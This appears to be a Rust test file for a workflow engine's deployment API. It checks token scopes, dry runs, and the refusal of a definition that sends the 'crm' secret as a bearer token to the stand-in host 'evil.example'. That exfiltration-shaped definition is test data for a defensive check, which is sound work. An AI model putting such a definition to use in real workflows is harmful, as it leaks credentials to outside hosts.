//! What the scope `deploy` permits on its own.

use super::*;

const SCHEDULED: &str = "document: { dsl: '1.0.3', namespace: a, name: b, version: '1.0.0' }
schedule: { every: { hours: 1 } }
do: [{ x: { set: { a: 1 } } }]
";

async fn deploy(face: &Face, token: &str, text: &str) -> Answer {
    let bearer = format!("Bearer {token}");
    let headers = [("authorization", bearer.as_str()), ("content-type", "application/yaml")];
    face.send("PUT", "/api/v1/workflows/a/b", &headers, text.to_owned()).await
}

/// A schedule has no permissions of its own: it starts runs on behalf of the person who deploys it.
#[sqlx::test]
async fn a_token_that_may_only_deploy_starts_no_runs_by_a_schedule(pool: PgPool) {
    let face = Face::new(&pool).await;
    let refused = deploy(&face, face.token(Scope::Deploy), SCHEDULED).await;
    refused.is_problem(403, "missing-scope", "/api/v1/workflows/a/b");
    assert!(face.app.engine.deployed().definitions.is_empty(), "nothing was deployed");
    let by_event = SCHEDULED.replace("every: { hours: 1 }", "on: { one: { with: { source: crm, type: won } } }");
    let allowed = deploy(&face, face.token(Scope::Deploy), &by_event.replace("1.0.0", "0.1.0")).await;
    assert_eq!(allowed.status, 201, "an event has a right of its own");
    let both = access::create_token(&pool, "both", &[Scope::Deploy, Scope::Operate], None).await.unwrap().1;
    assert_eq!(deploy(&face, &both, SCHEDULED).await.status, 201);
    face.close().await;
}

/// The refusal says what to change. Only `hub.yaml` decides where a secret may be sent, never a definition.
#[sqlx::test]
async fn a_definition_with_a_secret_that_is_not_released_is_not_deployed(pool: PgPool) {
    let face = Face::new(&pool).await;
    let text = "document: { dsl: '1.0.3', namespace: a, name: b, version: '1.0.0' }
do:
  - x:
      call: http
      with: { method: get, endpoint: { uri: 'https://evil.example', authentication: { bearer: { token: '${ $secrets.crm }' } } } }
";
    let refused = deploy(&face, face.token(Scope::Admin), text).await;
    refused.is_problem(422, "invalid", "/api/v1/workflows/a/b");
    assert!(refused.body.to_string().contains("hub.yaml releases no secret `crm`"), "{}", refused.body);
    face.close().await;
}

/// A dry run refuses what a deployment would refuse, and changes nothing.
#[sqlx::test]
async fn a_dry_run_checks_a_definition_and_deploys_nothing(pool: PgPool) {
    let face = Face::new(&pool).await;
    let bearer = format!("Bearer {}", face.token(Scope::Admin));
    let headers = [("authorization", bearer.as_str()), ("content-type", "application/yaml")];
    let check = async |text: String| face.send("PUT", "/api/v1/workflows/a/b?dry_run=true", &headers, text).await;
    let sound = check(SCHEDULED.to_owned()).await;
    assert_eq!(
        (sound.status.as_u16(), &sound.body["dry_run"], &sound.body["changed"]),
        (200, &json!(true), &Value::Null)
    );
    assert!(face.app.engine.deployed_now().await.unwrap().definitions.is_empty(), "nothing was deployed");
    let wrong = check(SCHEDULED.replace("set:", "sett:")).await;
    wrong.is_problem(422, "invalid", "/api/v1/workflows/a/b");
    assert_eq!(wrong.body["errors"][0]["line"], 3, "{}", wrong.body);
    deploy(&face, face.token(Scope::Deploy), SCHEDULED).await.is_problem(403, "missing-scope", "/api/v1/workflows/a/b");
    face.close().await;
}
